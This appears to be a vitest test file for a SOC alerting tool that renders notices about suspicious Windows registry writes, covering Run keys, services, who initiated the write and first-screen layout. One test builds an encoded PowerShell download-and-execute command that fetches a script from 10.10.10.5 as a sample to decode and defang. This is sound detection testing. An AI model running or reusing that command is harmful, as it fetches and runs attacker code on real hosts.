import { describe, expect, it } from 'vitest';
import { renderContextOf } from '../../functions/alert/notification/alert/render-context.ts';
import { plain } from '../../functions/alert/notification/format/columns.ts';
import { renderAlert } from '../../functions/alert/notification/index.ts';
import { effectOf } from '../../functions/alert/notification/screen/effect.ts';
import { firstScreen } from '../../functions/alert/notification/screen/first-screen.ts';
import { LOCALES } from '../../functions/alert/ruleset/index.ts';
import { utf16 } from '../detection/payload-of.ts';
import { MATCH } from '../ruleset/rule-folder.ts';
import { CASES } from './cases.ts';
import { alertOf, OPTIONS, RUN_KEY, USER_SID, type Write, writeEvent } from './fixture.ts';
import { HOSTILE } from './hostile-texts.ts';

/** Everything on: local time, links, history, related writes. */
const SETTINGS = {
  ...OPTIONS,
  region: 'eu-central-1',
  timeZone: 'Asia/Shanghai',
  kibanaUrl: 'https://kibana.acme.example/s/soc',
} as const;
const AROUND = {
  history: { otherHosts: ['A', 'B'], otherHostsMore: true, hostAlerts: 3 },
  neighbours: { count: 3, sample: [] },
  occurrences: 2,
};
/** As many indicators as are ever likely, with long sentences. */
const ASSESSMENT = {
  level: 'suspicious',
  score: 300,
  indicators: Array.from({ length: 9 }, (_, at) => ({
    id: `i${at}`,
    weight: at > 6 ? -20 : 60,
    technique: 'T1218.011',
    text: {
      en: 'a sentence of an indicator that is about as long as the longest of them all is',
      'zh-CN': '一条与最长的指标说明差不多一样长的指标说明，用于测试首屏的行数是否受限',
    },
    source: 'https://attack.mitre.org/',
  })),
} as const;

const SOFTWARE = 'Software\\Microsoft\\Windows\\CurrentVersion';

/** What the screen says of a write, and what it must not say. */
type Row = readonly [what: string, write: Write, kind: string, says: RegExp, never?: RegExp];

const run = (owner: string, value = 'v'): Write => ({ key: `${owner}\\${RUN_KEY}`, value });

const ROWS: readonly Row[] = [
  ['a user', run(USER_SID), 'runs', new RegExp(`at each logon of ${USER_SID}, as that user`)],
  ['the built-in Administrator', run('S-1-5-21-1-2-3-500'), 'runs', /built-in Administrator/],
  ['a user of Entra ID', run('S-1-12-1-1-2-3-4'), 'runs', /a user of Entra ID/],
  [
    'LocalSystem, which nobody logs on to',
    run('S-1-5-18'),
    'written',
    /no known effect: LocalSystem \(S-1-5-18\) never logs on interactively/,
    /at each logon/,
  ],
  ['.DEFAULT', run('.DEFAULT'), 'written', /LocalSystem \(\.DEFAULT\) never logs on/],
  ['LocalService', run('S-1-5-19'), 'written', /LocalService/],
  ['NetworkService', run('S-1-5-20'), 'written', /NetworkService/],
  ['a service account', run('S-1-5-80-1-2-3'), 'written', /the service account S-1-5-80-1-2-3 never logs on/],
  [
    'cmd.exe of LocalSystem, which needs no logon',
    { key: '.DEFAULT\\Software\\Microsoft\\Command Processor', value: 'Autorun' },
    'runs',
    /whenever .+ starts cmd\.exe/,
    /logon/,
  ],
  [
    'a hive mounted by hand',
    run('offline'),
    'may-run',
    /if this becomes a user's hive: at each logon of the owner of the hive mounted as offline/,
    /built-in/,
  ],
  [
    'the file associations of a user',
    run(`${USER_SID}_Classes`),
    'written',
    /no known effect: Windows reads no autostart/,
  ],
  [
    'a key below the documented one',
    { key: `${USER_SID}\\${RUN_KEY}\\deeper`, value: 'v' },
    'may-run',
    /not at the documented key \(Software\\Microsoft\\Windows\\CurrentVersion\\Run\): effect not known/,
  ],
  [
    'a ServiceDll beside its documented place',
    { hive: 'HKLM', key: 'SYSTEM\\ControlSet001\\Services\\x', value: 'ServiceDll' },
    'may-load',
    /not at the documented key/,
  ],
  [
    'a service',
    { hive: 'HKLM', key: 'SYSTEM\\ControlSet001\\Services\\x', value: 'ImagePath' },
    'runs',
    /next start of the service x.*account of the service \(check ObjectName\)/,
    /LocalSystem/,
  ],
  [
    'a DLL of a service',
    { hive: 'HKLM', key: 'SYSTEM\\ControlSet001\\Services\\x\\Parameters', value: 'ServiceDll' },
    'loads',
    /loaded by svchost\.exe/,
  ],
  [
    'a number',
    { hive: 'HKLM', key: `${SOFTWARE}\\RunOnceEx`, value: 'Flags', type: 'REG_DWORD', strings: ['128'] },
    'written',
    /a number: a setting, not a command/,
    /runs|logon/,
  ],
  ['an empty value', { ...run(USER_SID), strings: ['', ' '] }, 'written', /empty: nothing to run/],
  [
    'a browser button of LocalSystem, which nobody clicks as',
    { key: 'S-1-5-18\\Software\\Microsoft\\Internet Explorer\\Extensions\\{1}', value: 'Exec' },
    'written',
    /never logs on interactively/,
  ],
  ...['Logoff', 'Logon', 'Shutdown', 'Startup'].map((script): Row => {
    const key = `${USER_SID}\\Software\\Policies\\Microsoft\\Windows\\System\\Scripts\\${script}`;
    return [
      `${script} scripts`,
      { key, value: 'Script' },
      'written',
      /no known effect/,
      /at each|next logon/,
    ];
  }),
  [
    'a value below Winlogon\\Shell',
    { key: `${USER_SID}\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell`, value: 'v' },
    'written',
    /no known effect/,
  ],
  [
    'RunOnceEx of a user',
    { key: `${USER_SID}\\${SOFTWARE}\\RunOnceEx\\0001`, value: '1' },
    'runs',
    /once, at a later logon of/,
  ],
  [
    'the language bar',
    { key: `${USER_SID}\\Software\\Microsoft\\Ctf\\LangBarAddin\\{1}`, value: 'FilePath' },
    'may-load',
    /if the value Enable beside it is 1/,
  ],
];

describe('what Windows will do', () => {
  it.each(ROWS.map(row => [row[0], row] as const))(
    'is said truly of %s',
    (_, [, write, kind, says, never]) => {
      const context = renderContextOf(alertOf(writeEvent(write)), 'en', OPTIONS);
      const effect = effectOf(context);
      expect(effect.kind).toBe(kind);
      expect(plain(effect.text)).toMatch(says);
      if (never) expect(plain(effect.text)).not.toMatch(never);
      const chinese = effectOf(renderContextOf(context.alert, 'zh-CN', OPTIONS));
      expect(chinese.kind).toBe(kind);
      expect(plain(chinese.text)).toMatch(/[\u4e00-\u9fff]/);
    },
  );

  const without = (registry: object) => {
    const alert = alertOf(writeEvent(run(USER_SID)));
    const facts = { ...alert.facts, registry: { ...alert.facts.registry, data: [] } };
    return { ...alert, facts, event: { registry } as typeof alert.event };
  };
  it.each([
    [
      'nothing that is recorded',
      without({}),
      /^Written +no data in the event\n +the event does not say what was/m,
    ],
    [
      'bytes',
      without({ data: { bytes: 'TVqQAAMAAAAEAAAA//8AALg=' } }),
      /^Written +binary data, 17 bytes, beginning with 4D 5A 90 00 03 00 00 00 04\n +00 00 00\n +not text: whether/m,
    ],
    ['no base64', without({ data: { bytes: '====x' } }), /^Written +no data in the event$/m],
    [
      'a deletion',
      { ...alertOf(writeEvent(run(USER_SID))), event: { event: { type: ['deletion'] } } },
      /^FIN-WS-042: a Run key of one user was deleted through WMI\.\nDeleted +C:\\Users\\Public\\up\.exe -s\n +the value or its key was deleted; above/m,
    ],
  ])('is not guessed for %s', (_, alert, wanted) => {
    expect(firstScreen(renderContextOf(alert, 'en', OPTIONS)).text).toMatch(wanted);
    expect(firstScreen(renderContextOf(alert, 'zh-CN', OPTIONS)).text).toMatch(/没有记录|不是文本|被删除/);
  });

  it('is the strongest where an attacker chooses a path that also fits a harmless place', () => {
    const path = `${USER_SID}\\${RUN_KEY}\\Software\\Policies\\Microsoft\\Windows\\System\\Scripts\\Logon`;
    const alert = alertOf(writeEvent({ key: path, value: 'Script' }));
    const { email } = renderAlert(alert, OPTIONS);
    expect(alert.locations.map(({ number }) => number)).toEqual([2, 19]);
    expect(email).toMatch(/^May run/m);
    expect(email).not.toContain('no known effect');
  });
});

describe('who initiated it', () => {
  const BROKERS = [
    'svchost.exe',
    'wsmprovhost.exe',
    'winrshost.exe',
    'WmiPrvSE.exe',
    'dllhost.exe',
    'services.exe',
  ];

  it.each(BROKERS)('may be a remote caller behind %s', name => {
    const process = { entity_id: 'e', executable: `C:\\Windows\\System32\\${name}`, name, pid: 812 };
    const { email } = renderAlert(
      alertOf(writeEvent(run(USER_SID), { Effective_process: process })),
      OPTIONS,
    );
    const flat = email.replace(/\s+/g, ' ');
    expect(flat).toContain(`Initiated by ${name} (pid 812), which may act for a remote caller`);
    // What WMI itself recorded is asked first.
    expect(flat).toMatch(/FIVE QUESTIONS WHO .*?Microsoft-Windows-WMI-Activity.*? SPREAD /);
  });

  it('is not known where the event does not record it, and no other write is said to be its', () => {
    const { Effective_process: _, ...document } = writeEvent(run(USER_SID));
    const neighbours = { count: 3, sample: [{ path: 'HKLM\\a', value: 'b' }] };
    const { email } = renderAlert(alertOf(document, { neighbours }), OPTIONS);
    expect(email).toMatch(/^Initiated by {2}not recorded; possibly remote/m);
    expect(email.replace(/\s+/g, ' ')).toContain('in this log, initiator not recorded: 3');
    expect(email).not.toMatch(/by this\s+initiator/);
  });

  it('is a process on this host where it is named', () => {
    const { email } = renderAlert(alertOf(writeEvent(run(USER_SID))), OPTIONS);
    expect(email).toMatch(/^Initiated by {2}wmic\.exe \(pid 6120\), on this host/m);
    expect(email).not.toMatch(/Microsoft Windows|[Ss]ignature: ?(trusted|valid)/);
  });
});

describe('the size of one screen', () => {
  it.each(LOCALES)(
    'holds for every line of the evidence, and the mail has at most 180 lines, in %s',
    locale => {
      for (const line of MATCH) {
        const document = JSON.parse(line);
        const alert = { ...alertOf(document._source ?? document, AROUND), assessment: ASSESSMENT };
        const { email } = renderAlert(alert, { ...SETTINGS, locale });
        const screen = email.slice(0, email.indexOf('\n\n')).split('\n');
        expect(screen.length).toBeLessThanOrEqual(25);
        expect(email.split('\n').length).toBeLessThanOrEqual(180);
      }
    },
  );

  it('holds for hostile data and names', () => {
    for (const text of [...HOSTILE, 'x'.repeat(40_000), '更'.repeat(40_000), 'a b '.repeat(9_000)]) {
      const write = writeEvent(
        { key: `${USER_SID}\\${RUN_KEY}`, value: text, strings: [text, text, text, text] },
        {
          host: { name: text, ip: [text, text], os: { type: 'windows', full: text } },
          user: { name: text, domain: text },
        },
      );
      expectOneScreen(write, JSON.stringify(text.slice(0, 60)));
    }
  });

  it.each(['a b '.repeat(60), '更'.repeat(250)])('holds for a service with a long name: %s', name => {
    const key = `SYSTEM\\ControlSet001\\Services\\${name}`;
    const strings = Array.from({ length: 4 }, () => 'a b '.repeat(100));
    const more = { host: { name, os: { type: 'windows', full: name } } };
    expectOneScreen(writeEvent({ hive: 'HKLM', key, value: 'ImagePath', strings }, more), name);
  });

  function expectOneScreen(event: ReturnType<typeof writeEvent>, what: string): void {
    const alert = { ...alertOf(event, AROUND), assessment: ASSESSMENT };
    for (const locale of LOCALES) {
      const screen = firstScreen(renderContextOf(alert, locale, SETTINGS)).text;
      expect(screen.split('\n').length, what).toBeLessThanOrEqual(25);
    }
  }
});

describe('the first screen', () => {
  const screen = (name: string, options = {}) =>
    firstScreen(renderContextOf(CASES[name]!(), 'en', { ...SETTINGS, ...options })).text;

  it.each([
    ['the account of a SID', /at each logon of CORP\\alice\s+\(S-1-5-21-/],
    [
      'address, system and agent, as a console takes them',
      /^Host +10\.1\.20\.14, Windows 10 Pro 22H2, agent 8\.19\.2$/m,
    ],
    ['UTC and local time', /^When +2026-11-24 02:46:51 UTC \(10:46:51 Asia\/Shanghai\)/m],
    ['what the archive knows', /^Related +prior alerts on host, 48 h: 0, same value on other hosts: 0$/m],
  ])('has %s', (_, wanted) => {
    expect(screen('rundll32-by-wmi')).toMatch(wanted);
  });

  it('has the decoded text and its addresses, inert', () => {
    const shown = screen('encoded-powershell');
    expect(shown).toMatch(/^Decoded +\$c = New-Object Net\.WebClient; IEX/m);
    expect(shown).toContain('addresses: http[:]//10[.]10[.]10[.]5/n.ps1');
  });

  it('on a tight screen, cuts the key at its beginning and the data, before the decoded text', () => {
    const script = `$c=New-Object Net.WebClient;$c.Headers['User-Agent']='Mozilla/5.0';IEX $c.DownloadString('http://10.10.10.5/n.ps1')`;
    const strings = [`powershell.exe -NoP -W Hidden -Enc ${utf16(script)}`];
    const write = writeEvent({ key: `${USER_SID}\\${RUN_KEY}`, value: 'v', strings });
    const { history } = AROUND;
    const { indicators } = ASSESSMENT;
    const assessment = { ...ASSESSMENT, indicators: indicators.slice(0, 5) };
    const alert = { ...alertOf(write, { history }), assessment };
    const shown = firstScreen(renderContextOf(alert, 'en', SETTINGS)).text;
    expect(shown).toMatch(/^Decoded +\$c=New-Object[^+]*IEX\s+\$c\.DownloadString\('http\[:\]/m);
    expect(shown).toMatch(/\n +…\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\n/);
  });

  it('quotes a name that could be taken for words of ours', () => {
    const shownOf = (name: string, value: string, locale: (typeof LOCALES)[number]) => {
      const requester = { entity_id: 'e', name, executable: `C:\\T\\${name}`, pid: 6120 };
      const write = writeEvent(run(USER_SID, value), { Effective_process: requester });
      return firstScreen(renderContextOf(alertOf(write), locale, OPTIONS)).text.replace(/\s+/g, ' ');
    };
    const name = 'svchost.exe (pid 832), on this host; signed.exe';
    const shown = shownOf(name, 'v (REG_SZ), signed', 'en');
    expect(shown).toContain(`Initiated by "${name}" (pid 6120), on this host`);
    expect(shown).toContain('Value "v (REG_SZ), signed" (REG_SZ)');
    const chinese = shownOf('a（pid 4），本机进程', 'v（REG_SZ）', 'zh-CN');
    expect(chinese).toContain('发起进程 "a（pid 4），本机进程"（pid 6120），本机进程');
    expect(chinese).toContain('注册表值 "v（REG_SZ）"（REG_SZ）');
  });

  it('names addresses that are beyond the cut as what they are', () => {
    const strings = [`C:\\a.exe ${'x '.repeat(200)} https://c2.example/a https://c3.example/b`];
    const alert = alertOf(writeEvent({ ...run(USER_SID), strings }));
    const shown = firstScreen(renderContextOf(alert, 'en', SETTINGS)).text;
    expect(shown).toMatch(/^Addresses +https\[:\]\/\/c2\[\.\]example\/a, https/m);
    expect(shown).not.toMatch(/^Decoded/m);
  });

  it.each([
    [
      'eu-central-1',
      'https://eu-central-1.console.aws.amazon.com/s3/object/acme-registry-alert?region=eu-central-1&prefix=reports/',
    ],
    ['cn-north-1', 'https://cn-north-1.console.amazonaws.cn/s3/object/'],
    ['us-gov-west-1', 'https://us-gov-west-1.console.amazonaws-us-gov.com/s3/object/'],
    [undefined, 's3://acme-registry-alert/reports/'],
  ])('links the report in the console of %s', (region, wanted) => {
    expect(screen('rundll32-by-wmi', { region })).toContain(`Report        ${wanted}`);
  });

  it('has no row for what is not there', () => {
    expect(screen('endgame-no-requester', { archiveBucket: undefined, timeZone: undefined })).not.toMatch(
      /^(Decoded|Host|Related|Report)|\(.*Shanghai\)/m,
    );
  });
});
